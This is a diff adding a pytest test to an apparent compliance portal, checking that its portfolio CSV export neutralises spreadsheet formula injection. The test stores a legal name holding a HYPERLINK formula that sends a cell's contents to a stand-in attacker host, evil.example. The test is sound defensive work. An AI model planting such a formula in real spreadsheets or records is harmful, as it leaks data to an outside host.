@@ -1,3 +1,5 @@
+import csv
+import io
 from datetime import date
 
 import pytest
@@ -123,3 +125,16 @@ def test_account_manager_sees_only_assigned_partners_and_partners_cannot_see_por
     assert partner_a.legal_name in html and partner_b.legal_name not in html
     client.force_login(admin_a)
     assert client.get("/compliance/portfolio/").status_code == 404
+
+
+@time_machine.travel("2026-01-10 12:00Z")
+def test_portfolio_export_neutralises_spreadsheet_formulas(client, staff_user, partner_a, germany):
+    partner_a.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    partner_a.save()
+    certify(partner_a, germany, on=date(2020, 1, 1))
+    verdicts_recompute(partner_ids=None, as_of=date(2026, 1, 10))
+    client.force_login(staff_user)
+    content = b"".join(client.get("/compliance/portfolio/?export=csv").streaming_content).decode()
+    rows = list(csv.reader(io.StringIO(content)))
+    assert rows[1][0] == "'" + partner_a.legal_name
+    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
